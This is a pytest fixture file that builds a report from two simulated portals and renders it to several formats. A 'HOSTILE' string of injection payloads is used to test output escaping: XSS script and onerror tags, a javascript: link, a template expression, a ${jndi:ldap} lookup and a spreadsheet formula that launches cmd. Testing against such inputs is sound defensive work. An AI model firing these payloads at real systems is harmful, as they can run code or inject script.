"""A report with everything in it, rendered once."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from functools import lru_cache
from pathlib import Path
from typing import Any

import pytest
from pypdf import PdfReader

from reports.build import build_report
from reports.render import render_all

NewScene = Callable[..., Any]

HOSTILE = (
    "<script>alert(1)</script><img src=x onerror=alert(1)> \"quoted\" 'quoted' & ]]> "
    "{{ 7*7 }} | pipe `code` **bold** [link](javascript:alert(1)) @somebody http://evil.example "
    "\u202egnorw\u2066 \x00\x07\x1b[31m\ufeff\ud800 \u2028 ${jndi:ldap://x} =cmd|' /C calc'!A0"
)
"""What a portal might say to be believed, to be run, or to break a file."""


@pytest.fixture(scope="session")
def everything(
    scene_in: Callable[[Path], NewScene], tmp_path_factory: pytest.TempPathFactory
) -> Mapping[str, Any]:
    """Load and flow of two portals; the troubled one is hostile in all that it says."""
    scene = scene_in(tmp_path_factory.mktemp("runs"))
    healthy = scene(
        "load", plan={"planned": 60}, limits=["submit p95 <= 3", "licence_renewal.pay p99 <= 1"]
    )
    for walk in range(60):
        healthy.clock = 10.0 * walk
        healthy.filing(walk, due=10.0 * walk, phase="warm_up" if walk < 2 else "measured")
        for _ in range(21):
            healthy.request(walk, "start")
    healthy.audit(after={"payments": 60, "statistics": {}})
    flow = scene(target="troubled", faults={"hang": 1.0})
    flow.action(0, "fill_form")
    flow.filing(0)
    flow.filing(
        1, changes={"submit": {"outcome": "timeout", "notice": safe(HOSTILE)}}, until="submit"
    )
    broken = {"outcome": "failed", "reason": "http_500", "notice": safe(HOSTILE)}
    flow.filing(2, changes={"start": broken}, until="start")
    silent = {"outcome": "refused", "notice": safe(HOSTILE), "page": safe(HOSTILE)}
    flow.filing(3, "photo_too_large", {"attach_papers": silent}, until="attach_papers")
    said = safe(HOSTILE)
    heard = {"code": "said", "text": said}
    paid = {"code": "charges", "count": 2, "amount": 230_000, "payments": [said]}
    flow.audit(
        {"kind": "lost_dossier", "reference": said, "walk": 0, "expected": heard, "found": heard},
        {"kind": said, "reference": said, "walk": None, "expected": paid, "found": paid},
        not_exercised=[heard],
    )
    return build_report([healthy.finish(), flow.finish(command=said)])


@lru_cache
def text_of_pdf(file: Path) -> str:
    """What a reader can copy out of all pages."""
    return "\n".join(page.extract_text() for page in PdfReader(file).pages)


def safe(text: str) -> str:
    """A lone surrogate cannot be written to disk as UTF-8, so no row can hold one."""
    return text.replace("\ud800", "")


@pytest.fixture(scope="session")
def written(
    everything: Mapping[str, Any], tmp_path_factory: pytest.TempPathFactory
) -> dict[str, Path]:
    """Every rendering by its file name."""
    return rendered_by_name(everything, tmp_path_factory.mktemp("out"))


def rendered_by_name(report: Mapping[str, Any], folder: Path) -> dict[str, Path]:
    """Every rendering, printed by the browser that the machine has."""
    from uxflows.printing import printer

    with printer() as print_page:
        rendered = render_all(report, folder, print_page)
    assert rendered.missing == {}
    return {file.name: file for file in rendered.files}


@pytest.fixture(scope="session")
def rendered(written: dict[str, Path]) -> dict[str, str]:
    """The text of every rendering that is a text, by its file name."""
    texts = {name: file for name, file in written.items() if file.suffix not in (".xlsx", ".pdf")}
    return {name: file.read_text(encoding="utf-8") for name, file in texts.items()}
